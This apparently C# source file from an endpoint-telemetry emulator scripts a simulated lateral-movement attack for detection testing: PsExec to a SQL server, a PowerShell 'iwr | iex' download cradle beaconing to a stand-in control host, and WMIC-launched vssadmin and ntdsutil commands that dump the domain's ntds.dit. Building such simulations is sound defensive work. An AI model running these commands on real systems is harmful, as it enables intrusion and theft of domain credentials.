namespace CbResponse.Emulator;

/// <summary>From the workstation to the database server, and from there to a domain controller.</summary>
internal static class LateralChapter
{
    public static void Tell(StoryProcess powerShell, WindowsLife sql, WindowsLife domain)
    {
        powerShell.Writes(3_000, AttackSoftware.Psexec.Path, fileType: 1, content: AttackSoftware.Psexec);
        WindowsLife.Run(powerShell, 3_010, AttackSoftware.Psexec,
            @"C:\ProgramData\psexec64.exe -accepteula \\sql01 -s -d cmd.exe /c whoami")
            .Connects(0.5, "10.20.2.6", 445, "sql01.contoso.test").Connects(0.9, "10.20.2.6", 135, "sql01.contoso.test").Ends(9);
        StoryProcess remote = TellSqlServer(sql, powerShell, powerShell.At(3_012));
        TellDomainController(domain, remote);
    }

    private static StoryProcess TellSqlServer(WindowsLife sql, StoryProcess from, DateTime arrives)
    {
        double Since(StoryProcess process, double later) => (arrives.AddSeconds(later) - process.Guid.Start).TotalSeconds;
        sql.System.Accepts(Since(sql.System, 0), from.Host.Address, 445)
            .Writes(Since(sql.System, 0.4), AttackSoftware.PsexecService.Path, fileType: 1, content: AttackSoftware.PsexecService);
        sql.Services.Registers(Since(sql.Services, 0.9), RegistryAction.CreateKey,
            @"\registry\machine\system\controlset001\services\psexesvc");
        StoryProcess service = WindowsLife.Run(sql.Services, Since(sql.Services, 1.2), AttackSoftware.PsexecService,
            @"C:\Windows\PSEXESVC.exe");
        WindowsLife.Run(WindowsLife.Run(service, 2, WindowsSoftware.Cmd, "cmd.exe /c whoami").Ends(1), 0.1, WindowsSoftware.Whoami,
            "whoami").Ends(0.5);
        StoryProcess shell = WindowsLife.Run(service, 240, WindowsSoftware.Cmd, "\"cmd.exe\"");
        StoryProcess powerShell = WindowsLife.Run(shell, 30, WindowsSoftware.PowerShell,
            "powershell -nop -c \"iwr https://cdn-telemetry-update.example/s -UseBasicParsing | iex\"")
            .Loads(0.5, WindowsSoftware.Amsi)
                .Connects(2, PhishingChapter.ControlAddress, 443, PhishingChapter.ControlDomain, ja3: PhishingChapter.ControlJa3);
        for (double at = 60; at < powerShell.Ago(4); at += 600)
            powerShell.Connects(at, PhishingChapter.ControlAddress, 443, PhishingChapter.ControlDomain, ja3: PhishingChapter.ControlJa3);
        return powerShell;
    }

    private static void TellDomainController(WindowsLife domain, StoryProcess from)
    {
        StoryProcess wmic = WindowsLife.Run(from, 400, WindowsSoftware.Wmic,
            "wmic /node:dc01 /user:CONTOSO\\svc-backup process call create \"cmd.exe /c vssadmin create shadow /for=C: && ntdsutil \\\"ac i ntds\\\" ifm \\\"create full c:\\windows\\temp\\n\\\" q q\"")
            .Connects(0.6, "10.20.3.1", 135, "dc01.contoso.test").Ends(4);
        double at = (wmic.At(1.5) - domain.WmiHost.Guid.Start).TotalSeconds;
        domain.WmiHost.Accepts(at - 0.4, from.Host.Address, 49_668);
        StoryProcess shell = WindowsLife.Run(domain.WmiHost, at, WindowsSoftware.Cmd,
            "cmd.exe /c vssadmin create shadow /for=C: && ntdsutil \"ac i ntds\" ifm \"create full c:\\windows\\temp\\n\" q q",
            @"CONTOSO\svc-backup").Ends(95);
        shell.LogonType = 3;
        WindowsLife.Run(shell, 0.4, WindowsSoftware.Vssadmin, "vssadmin  create shadow /for=C:").Ends(11);
        WindowsLife.Run(shell, 12, WindowsSoftware.Ntdsutil, "ntdsutil  \"ac i ntds\" ifm \"create full c:\\windows\\temp\\n\" q q")
            .Writes(20, @"c:\windows\temp\n\active directory\ntds.dit").Writes(41, @"c:\windows\temp\n\registry\system").Ends(80);
    }
}
